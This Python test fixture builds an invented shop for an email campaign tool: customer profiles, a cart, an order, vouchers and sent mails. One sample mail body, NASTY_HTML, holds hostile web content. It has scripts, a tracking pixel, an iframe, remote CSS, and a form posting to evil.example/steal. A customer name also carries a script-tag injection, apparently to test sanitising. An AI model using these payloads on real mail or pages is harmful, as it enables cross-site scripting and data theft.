"""A shop that never was, seen through a window in memory: four people, a cart, an order, and one nasty mail."""

from collections.abc import Mapping, Sequence
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta
from decimal import Decimal
from typing import Any

from dampf.campaigns.catalogue import PublishedCatalogue, catalogue_of
from dampf.campaigns.content import Content
from dampf.domain.cart import CartChange, CartLog
from dampf.domain.decision import Conversion, Ended
from dampf.domain.event import Event
from dampf.domain.journey import Hold, Journey, StartingEvent, Waiting
from dampf.domain.message import Message, Reason, Status
from dampf.domain.profile import MetricValue, ProductSeen, Profile, Told
from dampf.domain.state import State
from dampf.domain.voucher import GivenVoucher, Voucher
from dampf.domain.words import Consent
from dampf_cli.embedded.mailbox import SentMail

NINE = datetime(2026, 3, 2, 8, 0, tzinfo=UTC)
"""Monday, nine o'clock in Berlin."""

NOW = NINE + timedelta(hours=6)

UNSUBSCRIBE = "https://links.shop.example/unsubscribe?message=anna-1"

CONTENT = Content(
    shop={"name": "Example Tools", "sender": "hello@shop.example", "timezone": "Europe/Berlin"},
    metrics={"orders": {"add": 1, "on": "Order Completed"}},
    campaigns={
        "cart_abandonment": {
            "title": "Cart abandonment",
            "trigger": {"event": "Product Added"},
            "steps": [
                {"id": "quiet", "wait": "1 hour"},
                {"id": "reminder", "send": "cart_reminder"},
                {"id": "answer", "wait_for": {"event": "Email Link Clicked", "within": "23 hours"}, "then": ["exit"]},
            ],
        },
        "order_confirmation": {
            "title": "Order confirmation",
            "trigger": {"event": "Order Completed"},
            "steps": [{"send": "order_confirmation"}],
        },
    },
    messages={
        name: {"": {"front": {"subject": "Hello"}, "body": "<mjml><mj-body></mj-body></mjml>"}}
        for name in ("cart_reminder", "order_confirmation")
    },
)

CATALOGUE = catalogue_of(CONTENT)


def version_of(campaign: str) -> str:
    published = CATALOGUE.campaign(campaign)
    assert published is not None
    return published.version


NASTY_HTML = """<!doctype html><html><head><title>Mail</title>
<meta http-equiv="refresh" content="0; url=https://evil.example/refresh">
<link rel="stylesheet" href="https://evil.example/style.css">
<style>@import url("https://evil.example/import.css");
body { background: url("https://evil.example/ground.png"); }</style>
</head><body><div style="display: none; max-height: 0">Everything is still there &amp; waiting</div>
<script>document.title = "owned"; top.document.title = "owned"; fetch("/people");</script>
<img src="https://evil.example/pixel.png" width="1" height="1" alt="" onerror="document.title = 'owned'">
<iframe src="https://evil.example/frame"></iframe>
<form action="https://evil.example/steal"><input name="secret"><button>Go</button></form>
<h1>Your cart</h1><a href="https://shop.example/cart">Back to your cart</a> <a href="javascript:alert(1)">Do not</a>
</body></html>"""


def at(hours: float) -> datetime:
    return NINE + timedelta(hours=hours)


def event(name: str, hours: float, **more: Any) -> Event:
    given = {"identifiers": {"customer_id": "1"}, "arrived_at": at(hours), **more}
    return Event(source="shop.example", id=f"{name}-{hours}", name=name, at=at(hours), **given)


ADDED = event("Product Added", 0, properties={"name": "Saw <b>650</b>", "price": 79, "cart_id": "c-1"})
CLICKED = event("Email Link Clicked", 2, properties={"email_id": "anna-1", "link": "https://shop.example/cart"})
ORDERED = event(
    "Order Completed",
    3,
    identifiers={"customer_id": "3"},
    properties={"order_id": "A-7", "total": 20, "currency": "EUR", "products": [{"name": "Vice"}, {"name": "Drill"}]},
)

TWO_SAWS = {"product_id": "saw", "name": "Saw", "price": 79, "quantity": 2}


def traits(**values: Any) -> dict[str, Told]:
    return {name: Told(value, NINE) for name, value in values.items()}


def message(id: str, profile: str, hours: float, **more: Any) -> Message:  # noqa: A002 - the field is called so
    given: dict[str, Any] = {
        "campaign": "cart_abandonment",
        "version": version_of(more.get("campaign", "cart_abandonment")),
        "journey": f"journey-of-{profile}",
        "step": "reminder",
        "message": "cart_reminder",
        "transactional": False,
        "topic": "marketing",
        "key": "c-1",
        "entered_at": NINE,
        "status": Status.DELIVERED,
        "at": at(hours),
        **more,
    }
    return Message(id=id, profile=profile, requested_at=at(hours), **given)


def mail(message_id: str, message: str, to: str, hours: float, **more: Any) -> SentMail:
    headers = more.get("headers", {})
    body = {"Html": {"Data": more.get("html", "<p>Hello</p>")}, "Text": {"Data": more.get("text", "Hello & thanks")}}
    request = {
        "FromEmailAddress": "Example Tools <hello@shop.example>",
        "Destination": {"ToAddresses": [to]},
        "Content": {
            "Simple": {
                "Subject": {"Data": more.get("subject", "Hello")},
                "Body": body,
                "Headers": [{"Name": name, "Value": value} for name, value in headers.items()],
            }
        },
        "EmailTags": [{"Name": "message", "Value": message}],
        "ConfigurationSetName": "dampf",
    }
    return SentMail(message_id=message_id, at=at(hours), request=request)


BACK = Voucher("comeback", "BACK-7QK4-XMPT-9RCD", "10 %", NINE, at(24 * 14))
ANNA = State(
    profile=Profile(
        id="anna",
        created_at=NINE,
        identifiers={"customer_id": ("1",), "email": ("anna@example.com",)},
        traits=traits(email="anna@example.com", first_name="Anna", last_name="<script>alert(1)</script>"),
        words=(Consent("marketing", True, NINE, source="sign-up form"),),
        metrics={"orders": MetricValue(Decimal(3), Decimal(3)), "revenue": MetricValue(Decimal("120.5"), Decimal(121))},
        dates={"last_order_at": NINE},
        cart=CartLog().with_change(
            CartChange(
                NINE, "add", "c-1", ({"product_id": "saw", "name": "Saw", "price": 79, "quantity": 2},), "cart-1"
            )
        ),
        viewed=(ProductSeen("saw", "Saw", NINE),),
        vouchers=(
            GivenVoucher(Voucher("tenth", "TEN-1", "20 EUR", NINE, None), "tenth_order", "anna-0", redeemed_at=at(1)),
            GivenVoucher(BACK, "cart_abandonment", "anna-1"),
            GivenVoucher(BACK._replace(code="BACK-OLD", expires_at=at(1)), "cart_abandonment", "anna-9"),
        ),
    ),
    journeys=(
        Journey(
            id="journey-of-anna",
            campaign="cart_abandonment",
            version=version_of("cart_abandonment"),
            key="c-1",
            ordinal=1,
            entered_at=NINE,
            step="answer",
            trigger=0,
            event=StartingEvent("anna", NINE, ADDED.key),
            waiting=Waiting(kind="wait_for", due_at=at(24)),
        ),
    ),
)
BEN = State(
    profile=Profile(
        id="ben",
        created_at=NINE,
        identifiers={"email": ("ben@example.com",)},
        traits=traits(email="ben@example.com", first_name="Ben"),
        words=(Consent("marketing", False, at(1)),),
    )
)
CARLA = State(
    profile=Profile(
        id="carla",
        also=("carla-before-login",),
        created_at=NINE,
        identifiers={"customer_id": ("3",), "email": ("carla@example.com",)},
        traits=traits(email="carla@example.com", name="Carla Conti"),
    )
)
VISITOR = State(profile=Profile(id="visitor", created_at=NINE, identifiers={"anonymous_id": ("browser-9",)}))

MESSAGES = (
    message(
        "anna-1",
        "anna",
        1,
        subject="Anna, your cart",
        event=StartingEvent("anna", NINE, ADDED.key),
        locale="en",
        voucher=BACK,
    ),
    message("ben-1", "ben", 1, status=Status.DROPPED, reason=Reason.NO_CONSENT),
    message(
        "carla-before-login-1",
        "carla-before-login",
        3,
        campaign="order_confirmation",
        step="steps/0",
        message="order_confirmation",
        transactional=True,
        subject="Your order A-7",
        held=(Hold(at(3), Reason.QUIET_HOURS),),
        event=StartingEvent("carla-before-login", at(3), ORDERED.key),
    ),
)

MAILS = (
    mail(
        "0107-anna",
        "anna-1",
        "anna@example.com",
        1,
        subject="Anna, your cart <i>waits</i>",
        html=NASTY_HTML,
        text="Your cart\n<b>waits</b>",
        headers={"List-Unsubscribe": f"<{UNSUBSCRIBE}>", "List-Unsubscribe-Post": "List-Unsubscribe=One-Click"},
    ),
    mail("0107-carla", "carla-before-login-1", "carla@example.com", 3, subject="Your order A-7"),
)


@dataclass(kw_only=True)
class InventedWindow:
    people: Sequence[State] = (ANNA, BEN, CARLA, VISITOR)
    ledger: Sequence[Message] = MESSAGES
    over: Mapping[str, Sequence[Ended]] = field(
        default_factory=lambda: {
            "ben": [Ended("journey-of-ben", "cart_abandonment", version_of("cart_abandonment"), NINE, at(1), "exit")]
        }
    )
    sent: Sequence[SentMail] = MAILS
    past: Mapping[str, Sequence[Event]] = field(
        default_factory=lambda: {"anna": [ADDED, CLICKED], "carla-before-login": [ORDERED]}
    )

    def catalogue(self) -> PublishedCatalogue:
        return CATALOGUE

    def now(self) -> datetime:
        return NOW

    def states(self) -> Sequence[State]:
        return self.people

    def messages(self) -> Sequence[Message]:
        return self.ledger

    def ended(self) -> Mapping[str, Sequence[Ended]]:
        return self.over

    def conversions(self) -> Sequence[Conversion]:
        return ()

    def mails(self) -> Sequence[SentMail]:
        return self.sent

    def events(self) -> Sequence[Event]:
        return [event for events in self.past.values() for event in events]

    def history(self, profile: str) -> Sequence[Event]:
        return self.past.get(profile, ())


def nothing_yet() -> InventedWindow:
    return InventedWindow(people=(), ledger=(), over={}, sent=(), past={})
